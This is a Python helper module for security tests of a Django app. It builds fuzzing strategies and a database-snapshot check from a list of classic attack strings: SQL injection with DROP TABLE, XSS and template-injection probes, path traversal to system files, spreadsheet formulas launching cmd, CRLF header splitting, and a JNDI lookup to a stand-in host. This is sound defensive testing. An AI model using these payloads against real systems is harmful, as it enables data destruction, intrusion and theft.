"""Hostile input for tests/security/test_hostile_*.py, and the proof that nothing was partly
written.

- `INJECTIONS`: what an attacker, a careless export or a copy-paste sends: SQL, HTML and script,
  template tags, path traversal, NUL bytes, right-to-left overrides, emoji and combining marks,
  spreadsheet formulas, CRLF header splits, numbers that are not numbers, 100k-character text.
- strategies that put them, or random Unicode, into a form field, a CSV cell or a JSON value.
- `snapshot()`: every table's row count and a digest of its rows, in one query, so a test can
  say "the database is exactly as before" (or name the tables that changed), not only "no new
  proposal".
- `Tally`: what a module tried, printed as its summary line.
"""

from collections import Counter
from dataclasses import dataclass, field

from django.db import connection
from django.utils.html import escape
from hypothesis import strategies as st

HUGE = 100_000
# Markup a page must never echo back raw: each is escaped wherever it is shown.
RAW_MARKUP = ('<script>alert("h1")</script>', '"><img src=x onerror=alert("h1")>')
INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE assignments_proposal; --",
    "1; SELECT pg_sleep(0) --",
    "\\'; --",
    *RAW_MARKUP,
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{{7*7}}${7*7}#{7*7}",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "\x00",
    "eve\x00@example.test",
    "\u202egnp.exe",  # right-to-left override
    "\u200b\u200d\ufeff",  # zero-width characters and a byte-order mark
    "👩‍👩‍👧‍👦🔥💩",
    "Ǝ̸̢͎̩̱̈́̍ͅv̷e",  # combining marks
    "ℌ𝔢𝔩𝔩𝔬 Ω≈ç√∫",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\r\nSet-Cookie: hostile=1",
    "%s%s%s%n",
    "${jndi:ldap://example.test/a}",
    "",
    " ",
    "\t\n",
    "null",
    "None",
    "NaN",
    "-1",
    "0",
    "1.5",
    "1e309",
    "99999999999999999999999999",
    "-99999999999999999999999999",
    "²",  # str.isdigit() says yes, int() says no
    "٣",  # an Arabic-Indic digit: int() reads 3
    "0x1F",
    "2026-02-30",
    "0001-01-01",
    "9999-12-31T23:59",
    "2026-13-45T25:61",
)
# Control characters, private use and unassigned code points included; surrogates cannot be
# sent as form data or UTF-8 at all (the JSON tests send them escaped).
UNICODE = st.characters(exclude_categories=("Cs",))


def _huge(text: str) -> str:
    return (text * (HUGE // max(len(text), 1) + 1))[:HUGE]


# The strings that found server errors before (tests/security/test_hostile_*.py docstrings
# say which): drawn more often than the rest of INJECTIONS.
SHARPEST = ("\x00", "eve\x00@example.test", "²", "٣", "99999999999999999999999999", *RAW_MARKUP)
MISSING = object()  # a form field left out of the post


def hostile_text(*, max_size: int = 40) -> st.SearchStrategy[str]:
    """One hostile string: a known injection, random Unicode, a mix, or a huge one."""
    known = st.sampled_from(INJECTIONS)
    return st.one_of(
        st.sampled_from(SHARPEST),
        known,
        known,
        st.text(UNICODE, max_size=max_size),
        st.tuples(st.text(UNICODE, max_size=8), known, st.text(UNICODE, max_size=8)).map("".join),
        st.sampled_from(("x", "é", "😀", "<b>", "\u202e", "a'")).map(_huge),
        st.sampled_from((300, 1001, 2001, 5000)).map(lambda n: ("Ab' " * n)[:n]),
    )


def hostile_field(valid: str) -> st.SearchStrategy:
    """What a form field may receive instead of `valid`: hostile text, the valid value with
    hostile text around it (often still acceptable: then it must be stored verbatim),
    several values for one field, or nothing at all (`MISSING`)."""
    valid = str(valid)
    return st.one_of(
        hostile_text(),
        hostile_text(),
        st.tuples(hostile_text(max_size=12), st.booleans()).map(
            lambda t: valid + t[0] if t[1] else t[0] + valid
        ),
        st.lists(hostile_text(max_size=12), min_size=2, max_size=3),
        st.just(MISSING),
    )


@st.composite
def form_body(draw, valid: dict, fields) -> dict:
    """`valid` with one to three of `fields` replaced by hostile values."""
    chosen = draw(st.sets(st.sampled_from(list(fields)), min_size=1, max_size=min(3, len(fields))))
    body = dict(valid)
    for name in sorted(chosen):
        value = draw(hostile_field(valid.get(name, "")))
        if value is MISSING:
            body.pop(name, None)
        else:
            body[name] = value
    return body


# --- JSON ---------------------------------------------------------------------------------

JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.sampled_from((2**31, 2**63, -(2**63) - 1, 10**30)),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text(max_size=20),
)
JSON_JUNK = st.recursive(
    JSON_SCALARS,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(hostile_text(max_size=8), children, max_size=4),
    ),
    max_leaves=12,
)


@st.composite
def json_object(draw, valid: dict, fields=None) -> dict:
    """`valid` with one to three fields replaced by junk (wrong types, nested junk, huge
    strings, Unicode, nulls), by hostile text, dropped, wrapped in a list or an object, or
    changed inside (an object's fields, a list's first object); sometimes an unknown field
    joins them."""
    fields = list(fields or valid)
    chosen = draw(st.sets(st.sampled_from(fields), min_size=1, max_size=min(3, len(fields))))
    body = dict(valid)
    for name in sorted(chosen):
        value = valid.get(name)
        inner = (
            isinstance(value, dict)
            and value
            or (isinstance(value, list) and value and isinstance(value[0], dict) and value[0])
        )
        actions = ["junk", "text", "text", "drop", "wrap"] + ["inner"] * 3 * bool(inner)
        action = draw(st.sampled_from(actions))
        if action == "drop":
            body.pop(name, None)
        elif action == "text":
            body[name] = draw(hostile_text())
        elif action == "wrap":
            body[name] = draw(st.sampled_from(([value], {"value": value})))
        elif action == "inner":
            changed_inner = draw(json_object(inner))
            body[name] = changed_inner if isinstance(value, dict) else [changed_inner, *value[1:]]
        else:
            body[name] = draw(JSON_JUNK)
    if draw(st.booleans()):
        body[draw(hostile_text(max_size=10))] = draw(JSON_SCALARS)
    return body


# Bodies that are not a JSON object at all: other JSON, broken JSON, other encodings, bytes.
NOT_AN_OBJECT = st.one_of(
    st.sampled_from(
        (
            b"",
            b"null",
            b"[]",
            b"[{}]",
            b'"text"',
            b"12",
            b"{",
            b'{"a": }',
            b"{'single': 'quotes'}",
            b'{"a": NaN}',
            b'{"a": Infinity}',
            b'{"a": 1e999999}',
            b'{"a": "\\ud800"}',
            b'{"a": "\\u0000"}',
            b'{"a": "\xff\xfe"}',
            '{"name": "caf\u00e9"}'.encode("latin-1"),
            '{"name": "x"}'.encode("utf-16"),
            b"\xef\xbb\xbf{}",
            b"<xml/>",
            b"a=1&b=2",
            b"[" * 5000 + b"]" * 5000,
        )
    ),
    st.binary(max_size=200),
)


# --- The database, before and after -------------------------------------------------------

# What a request writes whatever its body: the session (last seen, for the idle sign-out),
# and when an API key was last used (api.keys, at most once a minute per key).
NOT_CONTENT = frozenset({"django_session"})
NOT_CONTENT_COLUMNS = {"api_apikey": ("last_used_at",)}
_TABLES: list[str] = []


def _tables() -> list[str]:
    if not _TABLES:
        _TABLES.extend(
            sorted(t for t in connection.introspection.table_names() if t not in NOT_CONTENT)
        )
    return _TABLES


def snapshot() -> dict[str, tuple[int, str]]:
    """{table: (rows, digest of every row)} for every table, in one query."""
    tables = _tables()
    quote = connection.ops.quote_name
    parts, params = [], []
    for name in tables:
        skipped = list(NOT_CONTENT_COLUMNS.get(name, ()))
        row = "(to_jsonb(t) - %s::text[])::text" if skipped else "t::text"
        parts.append(
            f"SELECT %s, count(*), md5(coalesce(string_agg(md5({row}), ',' "
            f"ORDER BY md5({row})), '')) FROM {quote(name)} t"
        )
        params += [name, skipped, skipped] if skipped else [name]
    with connection.cursor() as cursor:
        cursor.execute(" UNION ALL ".join(parts), params)
        return {name: (rows, digest) for name, rows, digest in cursor.fetchall()}


def changed(before: dict, after: dict) -> dict[str, str]:
    """The tables whose rows differ: {table: "rows before -> rows after"}."""
    return {
        name: f"{before[name][0]} -> {after[name][0]} rows"
        for name in before
        if before[name] != after.get(name)
    }


# --- What a page or a body says -------------------------------------------------------------


def page_errors(response) -> list[str]:
    """Every error message a rendered page was given: its forms' errors, a refusal or error
    line, per-row errors of a file, and error messages of the messages framework."""
    found = []
    if response.context is None:
        return found
    contexts = response.context if isinstance(response.context, list) else [response.context]
    context, forms = {}, {}
    for layer in contexts:
        flat = layer.flatten()
        for value in flat.values():
            for form in value.values() if isinstance(value, dict) else [value]:
                if hasattr(form, "is_bound") and hasattr(form, "errors"):
                    forms[id(form)] = form
        context = {**flat, **context}
    for form in forms.values():
        for messages in form.errors.values():
            found += [str(m) for m in messages]
    for name in ("refusal", "error"):
        if context.get(name):
            found.append(str(context.get(name)))
    for row in context.get("row_errors") or []:
        found.append(str(row.reason))
    for message in context.get("messages") or []:
        if "error" in message.tags or "warning" in message.tags:
            found.append(str(message))
    return found


def shown(message: str, page: str) -> bool:
    """Whether `message` is on the page as the template would write it (escaped)."""
    return escape(message) in page or message in page


def raw_markup_in(page: str) -> list[str]:
    return [markup for markup in RAW_MARKUP if markup in page]


@dataclass
class Tally:
    """What a module tried; `line()` is its summary."""

    what: str
    counts: Counter = field(default_factory=Counter)
    targets: set = field(default_factory=set)

    def add(self, target: str, outcome: str) -> None:
        self.targets.add(target)
        self.counts["inputs"] += 1
        self.counts[outcome] += 1

    def line(self, noun: str, inputs: str = "inputs") -> str:
        c = self.counts
        return (
            f"{self.what}: {len(self.targets)} {noun}, {c['inputs']} {inputs} "
            f"({c['accepted']} accepted, {c['rejected']} rejected), "
            f"{c['server_error']} server errors, {c['partial_write']} partial writes"
        )
